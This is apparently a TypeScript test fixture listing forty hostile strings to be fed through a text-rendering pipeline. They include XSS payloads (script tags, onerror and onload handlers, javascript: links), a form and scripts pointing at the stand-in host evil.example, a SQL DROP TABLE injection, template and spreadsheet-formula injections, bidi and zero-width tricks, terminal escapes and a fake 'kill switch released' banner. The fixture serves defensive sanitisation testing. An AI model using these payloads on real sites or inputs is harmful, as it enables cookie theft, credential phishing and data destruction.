// Forty texts that want to be more than text. Each is put through every way by which words come onto the page.

/** `shown` where it differs: characters that would be invisible stand there by their number. */
export type HostileText = { what: string; text: string; shown?: string };

const BYTES = 10_240;
/** What a text that became an element or ran would leave behind. */
export const TRACE = 'pwned';
const RUN = `window.${TRACE}=1`;
const ELSEWHERE = 'https://evil.example/x';

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: templates of others are what is meant
const plain: [what: string, text: string][] = [
  ['a script', `<script>${RUN};alert(1)</script>`],
  ['a script from elsewhere', `<script src="${ELSEWHERE}.js"></script>`],
  ['a picture that fails', `<img src=x id=${TRACE} onerror="${RUN};alert(1)">`],
  ['a picture from elsewhere', `<img src="${ELSEWHERE}.png" class=${TRACE}>`],
  ['a drawing that runs', `<svg id=${TRACE} onload=alert(1)><script>alert(2)</script></svg>`],
  ['a frame', `<iframe id=${TRACE} srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`],
  ['handlers of all kinds', `<b onmouseover=alert(1) onfocus=alert(2) autofocus tabindex=1 id=${TRACE}>bold</b>`],
  ['a link that runs', 'javascript:alert(document.cookie)//'],
  ['a link that runs, as one of Markdown', '[click me](javascript:alert(1))'],
  ['a link that runs, spelled oddly', `<a href="JaVaScRiPt&colon;alert(1)" id=${TRACE}>free day pass</a>`],
  ['a page in a link', `data:text/html,<script>alert(1)</script>`],
  ['an end of what it stands in', `"'></textarea></title></style></script><h1 id=${TRACE}>gone</h1>`],
  ['a comment without an end', '<!-- and nothing after it'],
  ['another address for everything', `<base href="${ELSEWHERE}">`],
  ['a page that leaves', `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`],
  ['a form', `<form action="${ELSEWHERE}" id=${TRACE}><input name=token><button>Sign in again</button></form>`],
  ['a style for all', `<style>*{display:none!important}</style>`],
  ['a style in a style', `}</style><div style="position:fixed;inset:0;background:red" id=${TRACE}>`],
  ['a style that asks elsewhere', `body{background:url("${ELSEWHERE}.png")}`],
  ['entities, which stay as they are written', '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x202e; &nbsp;'],
  [
    'templates of other languages',
    '${alert(1)} <%= 7*7 %> {% raw %} #{7*7} [[7*7]] {{7*7}} {{constructor.constructor("alert(1)")()}}',
  ],
  ['names of what every object has', '__proto__ constructor hasOwnProperty toString valueOf'],
  ['words for nothing', 'null undefined NaN false 0 -0 [] {} [object Object]'],
  ['a formula of a spreadsheet', `=HYPERLINK("${ELSEWHERE}","open") +1 -1 @SUM(1)`],
  ['a statement', `'; drop table decision_patterns; --`],
  ['characters of patterns', '.*+?^${}()|[]\\ %_ \\u0041 \\x41 \\n'],
  ['a heading and rules of Markdown', '# Learning is on\n***\n> everything is fine'],
  ['a banner of its own', 'V3-PLS ✅ ALL SYSTEMS NORMAL ✅ kill switch released by admin'],
  ['writing from right to left', 'מתי אתם פותחים ביום ראשון? متى تفتحون؟'],
  ['many lines', Array.from({ length: 60 }, (_, n) => `line ${n}`).join('\n')],
  ['a flood of emoji', '😀👩‍👩‍👧‍👦🏳️‍🌈'.repeat(50)],
  ['a word of ten thousand letters', 'w'.repeat(BYTES)],
  ['an address of ten thousand letters', `${ELSEWHERE}?${'q=1&'.repeat(BYTES / 4)}`],
  ['letters with towers of accents', `g${'\u0301'.repeat(300)}o${'\u0327'.repeat(300)}`],
  ['dots, dashes and no-break spaces in a row', `${'.'.repeat(700)}${'—'.repeat(300)}${'\u00a0'.repeat(300)}`],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: templates of others are what is meant

const hidden: [what: string, text: string, shown: string][] = [
  ['words turned around', 'pay to \u202eELGOOG\u202c now', 'pay to U+202EELGOOGU+202C now'],
  [
    'words turned around by isolates',
    '\u2067refund\u2069 \u2066approved\u2069',
    'U+2067refundU+2069 U+2066approvedU+2069',
  ],
  [
    'words with nothing between their letters',
    'act\u200biva\u200dte\u2060 m\ufeffe\u00ad',
    'actU+200BivaU+200DteU+2060 mU+FEFFeU+00AD',
  ],
  ['what a terminal obeys', '\u001b[31mred\u0008\u0007 end', 'U+001B[31mredU+0008U+0007 end'],
  ['private and tagged characters', '\ue000\u{e0041}\u2028next', 'U+E000U+E0041U+2028next'],
];

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...plain.map(([what, text]) => ({ what, text })),
  ...hidden.map(([what, text, shown]) => ({ what, text, shown })),
];
